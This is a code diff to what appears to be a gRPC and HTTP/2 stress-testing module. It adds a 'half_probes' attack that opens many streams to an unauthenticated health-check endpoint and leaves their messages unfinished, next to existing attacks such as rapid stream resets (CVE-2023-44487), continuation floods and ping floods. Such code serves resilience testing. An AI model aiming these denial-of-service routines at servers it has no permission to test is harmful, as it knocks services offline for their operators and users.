@@ -9,6 +9,7 @@ _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
 _END_STREAM, _END_HEADERS = 1, 4
 _METHOD = "/inference.GRPCInferenceService/ModelInfer"
+HEALTH = "/grpc.health.v1.Health/Check"
 _STREAMS = 100
 
 
@@ -50,6 +51,16 @@ async def half_messages(target: Target) -> None:
         await asyncio.sleep(1)
 
 
+@again_and_again(100)
+async def half_probes(target: Target) -> None:
+    """The same to what answers without a token, and without an end."""
+    async with connected(target, target.grpc_port) as (reader, writer):
+        streams = range(1, 2 * _STREAMS, 2)
+        heads = b"".join(frame(_HEADERS, _END_HEADERS, stream, head(HEALTH)) for stream in streams)
+        writer.write(_HELLO + heads + b"".join(frame(_DATA, 0, stream, _BEGUN + b"x" * 600) for stream in streams))
+        await asyncio.wait_for(reader.read(), max(0.1, target.until - asyncio.get_running_loop().time()))
+
+
 @again_and_again(8)
 async def resets(target: Target) -> None:
     """Calls that are taken back at once, on and on (CVE-2023-44487)."""
@@ -85,6 +96,7 @@ async def idle_calls(target: Target) -> None:
 
 GRPC_ATTACKS: dict[str, Attack] = {
     "grpc-half-messages": half_messages,
+    "grpc-half-probes": half_probes,
     "grpc-resets": resets,
     "grpc-continuations": continuations,
     "grpc-pings": pings,
